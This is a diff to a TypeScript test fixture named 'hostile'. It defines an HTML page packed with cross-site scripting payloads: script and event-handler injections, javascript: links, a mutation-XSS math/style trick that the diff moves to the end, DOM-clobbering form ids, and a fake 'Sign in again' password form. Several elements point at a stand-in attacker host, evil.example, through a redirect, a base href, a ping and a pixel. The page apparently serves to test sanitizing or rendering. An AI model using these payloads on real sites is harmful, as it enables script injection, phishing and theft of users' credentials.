@@ -11,7 +11,6 @@ export const hostile: SitePage = {
 <script>${run}</script><script src="https://evil.example/x.js"></script>
 <img src="x" onerror="${run}"><img src="https://evil.example/pixel.gif" alt="A picture from elsewhere">
 <svg onload="${run}"><script>${run}</script><a xlink:href="javascript:${run}"><text>drawn</text></a></svg>
-<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></math>
 <form action="https://evil.example/" id="document" name="body"><input name="attributes">
 <input type="password" name="cookie"><button formaction="javascript:${run}">Sign in again</button></form>
 <meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
@@ -21,5 +20,7 @@ export const hostile: SitePage = {
 <a href="/pages/partner-services" id="location" name="location" ping="https://evil.example/">Partner Services</a>
 <a data-toggle="collapse" href="javascript:${run}#x">Open</a><div id="x" onclick="${run}" class="collapse">a part</div>
 <div data-max-chars="5" data-more-label="<img src=x onerror=${run}>">a text that is cut, and more of it</div>
-<span data-toggle="tooltip" title="<img src=x onerror=${run}>">words with a tooltip</span>`,
+<span data-toggle="tooltip" title="<img src=x onerror=${run}>">words with a tooltip</span>
+<p>The last words.</p>
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></math>`,
 };
